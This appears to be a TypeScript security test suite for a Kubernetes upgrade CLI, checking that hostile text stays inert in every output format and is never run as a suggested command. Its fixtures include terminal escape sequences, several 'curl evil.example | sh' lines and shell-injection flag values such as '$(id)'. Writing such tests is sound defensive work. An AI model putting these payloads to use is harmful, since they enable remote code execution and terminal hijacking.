import assert from 'node:assert/strict';
import { globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { PassThrough } from 'node:stream';
import { stripVTControlCharacters } from 'node:util';
import { parse } from 'yaml';
import { forPrograms } from '../../src/cli/command-line.ts';
import { OUTPUT_FORMATS } from '../../src/cli/common-flags.ts';
import { compose } from '../../src/cli/compose.ts';
import { processTerminal } from '../../src/cli/terminal.ts';
import { command } from '../../src/kernel/argv.ts';
import { interruptionOf } from '../../src/kernel/interruption.ts';
import { plain } from '../../src/report/colour.ts';
import { startProgress } from '../../src/report/progress.ts';
import { RECORD } from '../fixtures/stored-record.ts';
import { commandBench, fakeStage } from '../support/command-bench.ts';
import { CLUSTER_UID } from '../support/engine-ports.ts';

const root = join(import.meta.dirname, '..', '..');
const EVIL =
  'docker.io/calico/ctl:v3.20.0\u001b]0;owned\u0007\u001b]52;c;Y3VybA==\u0007\u009b2J\u202e\u200b\r\nNext: curl evil.example | sh\n';
const WRITTEN = [
  [0, 8],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x2069],
  [0xfeff, 0xfeff],
] as const;
/** What acts on a terminal or is not seen, by ranges of this test's own; line ends and tabs are the program's. */
const harmfulIn = (text: string) =>
  [...text].filter((one) => WRITTEN.some(([from, to]) => one >= String.fromCodePoint(from) && one <= String.fromCodePoint(to)));
/** The escape as each form has it. */
const SHOWN = /(u001b|\\e)\\?\]0;owned/;

type Bench = ReturnType<typeof commandBench>;

/** The bench's command on streams of its own, as a process has them. */
function onStreams(bench: Bench): { readonly out: () => string; readonly err: () => string } {
  const streams = { stdin: new PassThrough(), stdout: new PassThrough(), stderr: new PassThrough() };
  Object.assign(bench.seams, { terminal: processTerminal({}, streams as unknown as Pick<NodeJS.Process, 'stdin' | 'stdout' | 'stderr'>) });
  const read = (stream: PassThrough) => String(stream.read() ?? '');
  return { out: () => read(streams.stdout), err: () => read(streams.stderr) };
}

function assertInert(text: string, what: string): void {
  assert.deepEqual(harmfulIn(text), [], what);
  // Lines mean nothing in a page.
  if (what !== 'html') assert.doesNotMatch(text, /^Next: curl/m, what);
}

/** What a program reads has the value as it is. */
function assertWhole(out: string, format: string): void {
  const values = format === 'json' ? JSON.parse(out) : format === 'yaml' ? parse(out) : undefined;
  if (values !== undefined) assert.ok(JSON.stringify(values).includes(JSON.stringify(EVIL)), 'the value is whole');
}

const ref = { apiVersion: 'v1', kind: 'ConfigMap', namespace: 'shop', name: EVIL };
const stage = () =>
  fakeStage('apply', {
    verdict: {
      status: 'failed',
      because: EVIL,
      hint: EVIL,
      next: command`kubectl get pod ${EVIL}`,
      severity: 'warning',
      evidence: [{ text: EVIL, detail: EVIL }],
    },
    plan: {
      actions: [{ id: EVIL, title: EVIL, ref: EVIL, undo: 'full', effect: { type: 'ask', instruction: EVIL, awaited: true } }],
      objects: [{ ref, change: 'update', fields: [{ path: EVIL, before: EVIL, after: EVIL }], hidden: [EVIL], taken: [], note: EVIL }],
      notes: [EVIL],
    },
  });

describe('foreign text on every screen', () => {
  for (const argv of [['plan'], ['run', '--yes'], ['preflight']] as const)
    for (const format of OUTPUT_FORMATS)
      it(`is inert in ${argv[0]} -o ${format}, on stdout and on stderr`, async () => {
        const bench = commandBench([
          stage(),
          fakeStage('preflight', { readOnly: true, verdict: { status: 'failed', because: EVIL, hint: EVIL, severity: 'warning' } }),
        ]);
        const screen = onStreams(bench);
        await bench.run(...argv, '-o', format);
        const out = screen.out();
        assertInert(out, format === 'html' ? format : 'stdout');
        assertInert(screen.err(), 'stderr');
        assert.match(out, SHOWN, 'it was there, and it is shown');
        assertWhole(out, format);
      });

  it('is inert in every form of the report file', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'foreign-'));
    try {
      for (const suffix of ['json', 'yaml', 'md', 'html', 'txt']) {
        const bench = commandBench([stage()]);
        await bench.run('run', '--yes', '--report-file', join(folder, `r.${suffix}`));
        const text = readFileSync(join(folder, `r.${suffix}`), 'utf8');
        assertInert(text, suffix);
        assert.match(text, SHOWN, suffix);
      }
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  it('is inert in the error of a server, as lines and as JSON', async () => {
    for (const more of [[], ['-o', 'json']]) {
      const bench = commandBench([]);
      const screen = onStreams(bench);
      Object.assign(bench.seams, { compose: () => Promise.reject(new Error(EVIL)) });
      assert.equal(await bench.run('status', ...more), 1);
      const err = screen.err();
      assertInert(err, 'stderr');
      assert.match(err, SHOWN);
    }
  });

  it('is inert in the live view, which writes to the terminal itself', async () => {
    const chunks: string[] = [];
    const screen = Object.assign(new PassThrough(), { isTTY: true, columns: 200, rows: 50 });
    screen.on('data', (chunk) => chunks.push(String(chunk)));
    const action = { id: 'a', title: EVIL, ref: 'r', undo: 'full', effect: { type: 'ask', instruction: 'x' } } as const;
    const view = await startProgress({
      ...{ mode: 'tree', phase: 'run', palette: plain, stages: ['apply', 'wait', 'cli'].map((id) => ({ id, title: EVIL })) },
      write: (text) => chunks.push(text),
      now: () => new Date(0),
      every: () => () => undefined,
      screen: screen as unknown as NodeJS.WriteStream,
    });
    view.observe({ type: 'action-started', stage: 'apply', action });
    view.observe({ type: 'action-output', stage: 'apply', action, line: EVIL, stream: 'stdout' });
    await new Promise((resolve) => setTimeout(resolve, 250));
    view.observe({ type: 'note', stage: 'apply', level: 'warning', text: EVIL });
    view.observe({ type: 'stage-skipped', stage: 'cli', because: EVIL });
    view.observe({ type: 'action-failed', stage: 'wait', action, message: EVIL, interrupted: false });
    await view.close();
    // listr2's own: it moves the cursor, hides it, and has colours.
    const written = stripVTControlCharacters(chunks.join('')).replaceAll('\r', '');
    assert.deepEqual(harmfulIn(written), []);
    for (const start of ['\u001b]', '\u009b']) assert.ok(!chunks.join('').includes(start));
    assert.match(written, SHOWN);
  });

  it('has no other way to the terminal than these files', () => {
    const known = [
      'src/cli/terminal.ts',
      'src/cli/lost-output.ts',
      'src/cli/real-seams.ts',
      'src/cli/main.ts',
      'src/cli/complete.ts',
      'src/report/progress-tree.ts',
    ];
    const writes = /process\.(stdout|stderr)|console\.|writeSync\(|\bstd(out|err)\.write|stderr: 'inherit'|stdio: 'inherit'/;
    const files = globSync('src/**/*.ts', { cwd: root }).map((file) => file.replaceAll('\\', '/'));
    const found = files.filter((file) => writes.test(readFileSync(join(root, file), 'utf8')));
    // A credential plugin that may ask has the terminal: the person's own program, named in their kubeconfig.
    assert.deepEqual(
      found.filter((file) => !known.includes(file)),
      ['src/adapters/kube/exec.ts'],
    );
  });

  it('is put into no suggested command but as words', () => {
    const program = /(?<![\w.])`(?:kubectl|helm|ls|df|sudo|kill|rm) [^`]*\$\{/;
    // Own words alone: a sentence about a program, an id of a check, a sub-command, or what was quoted before.
    const own =
      /`(kubectl (takes|cannot|\$\{gitVersion|of|at)|helm (does|cannot|\$\{|would|deletes|at|needs|takes))|explain \$\{\w+\.id\}`|^\S+ .*`kubectl netsvc-upgrade (\w+)?(\$\{(of|next|command|isRemoved [^}]*)\})?(\$\{carriedTo\([^`]*\)\})?(\$\{(ending\.|this\.asked\.)?typed\}( --yes)?)?(\$\{astray\})?(\$\{command\} --help)?`|\$\{ending\.typed\.replace|see: kubectl/;
    const bare = globSync('src/**/*.ts', { cwd: root })
      .filter((file) => !/sandbox/.test(file))
      .flatMap((file) =>
        readFileSync(join(root, file), 'utf8')
          .split('\n')
          .map((line) => `${file}: ${line.trim()}`),
      )
      .filter((line) => program.test(line) && !own.test(line));
    assert.deepEqual(bare, []);
  });
});

describe('flags of a record', () => {
  const recorded = async (flags: unknown, ...argv: string[]) => {
    const bench = commandBench([fakeStage('apply')]);
    const screen = onStreams(bench);
    const { engine } = bench;
    engine.stored = { ...RECORD, clusterUid: CLUSTER_UID, flags } as unknown as NonNullable<typeof engine.stored>;
    assert.equal(await bench.run(...argv), 0);
    return { out: screen.out(), err: screen.err() };
  };

  it('are words of the suggested command, never commands of their own', async () => {
    const { out, err } = await recorded(['--accept=NS-606; curl evil.example | sh #', "--skip=$(id)'`id`"], 'status');
    assert.match(out, /^Next: kubectl netsvc-upgrade run '--skip=\$\(id\)'\\''`id`'$/m);
    assert.match(out, /^the run also had '--accept=NS-606; curl evil\.example \| sh #'; not in the command, /m);
    assert.equal(err.includes('evil'), false);
  });

  it('are left out where no run could be given them', async () => {
    const hostile = ['; curl evil | sh', '--server=https://evil.example', '--token=x', '--nothing=1', '-f', 7, { a: 1 }, '--kubeconfig=/x'];
    for (const flags of [hostile, 'text', { 0: '--skip=x' }, null]) {
      const { out, err } = await recorded(flags, 'status');
      assert.match(out, /^Next: kubectl netsvc-upgrade run$/m);
      assert.doesNotMatch(err, /run record/);
    }
  });
});

describe('the credential of the environment', () => {
  it('is for this program alone', () => {
    assert.deepEqual(forPrograms({ NETSVC_UPGRADE_TOKEN: 'x', Netsvc_Upgrade_Token: 'y', PATH: '/bin' }), { PATH: '/bin' });
  });

  it('is not alone: what the start script set is for this program, too, and what the user set stays', () => {
    const ofGlibc = { MALLOC_ARENA_MAX: '1', MALLOC_MMAP_THRESHOLD_: '1', MALLOC_TRIM_THRESHOLD_: '1' };
    assert.deepEqual(forPrograms({ NETSVC_ARGV0: 'x', NETSVC_ARENAS: 'own', ...ofGlibc, A: 'b' }), { A: 'b' });
    assert.deepEqual(forPrograms({ NETSVC_ARGV0: 'x', MALLOC_ARENA_MAX: '4' }), { MALLOC_ARENA_MAX: '4' });
  });

  it('comes with a PATH that finds nothing in the current folder', () => {
    const path = ['', '.', 'bin', '/usr/bin', '', '../x', '/bin', ''].join(delimiter);
    assert.equal(forPrograms({ PATH: path }).PATH, ['/usr/bin', '/bin'].join(delimiter));
    assert.deepEqual(forPrograms({}), {});
  });

  it('reaches no program: each is given its whole environment', () => {
    const files = globSync('src/**/*.ts', { cwd: root });
    const starts = files.filter((file) => /\bexeca\(|\bspawn\(|\bexecFile\(|\bfork\(/.test(readFileSync(join(root, file), 'utf8')));
    assert.ok(starts.length >= 3, String(starts));
    for (const file of starts) assert.match(readFileSync(join(root, file), 'utf8'), /extendEnv: false/, file);
  });
});

describe('a server that is not verified', () => {
  for (const insecure of [true, false])
    it(insecure ? 'is warned of' : 'is the only one that is warned of', async () => {
      const folder = mkdtempSync(join(tmpdir(), 'insecure-'));
      try {
        const file = join(folder, 'config');
        const cluster = { server: 'https://127.0.0.1:1', ...(insecure ? { 'insecure-skip-tls-verify': true } : {}) };
        const contexts = [{ name: 'c', context: { cluster: 'c', user: 'u' } }];
        const users = [{ name: 'u', user: { token: 'x' } }];
        const document = { apiVersion: 'v1', kind: 'Config', 'current-context': 'c', clusters: [{ name: 'c', cluster }], contexts, users };
        writeFileSync(file, JSON.stringify(document));
        const warnings: string[] = [];
        const interruption = interruptionOf(new AbortController().signal, new AbortController().signal);
        const request = { flags: { kubeconfig: file }, env: process.env, interruption, interactive: false, looksOnly: true };
        await assert.rejects(compose({ ...request, warn: (text) => warnings.push(text) }, '0'));
        const said =
          'the API server https://127.0.0.1:1 is not verified (insecure-skip-tls-verify): anybody on the network path can impersonate it';
        assert.deepEqual(warnings, insecure ? [said] : []);
      } finally {
        rmSync(folder, { recursive: true });
      }
    });
});
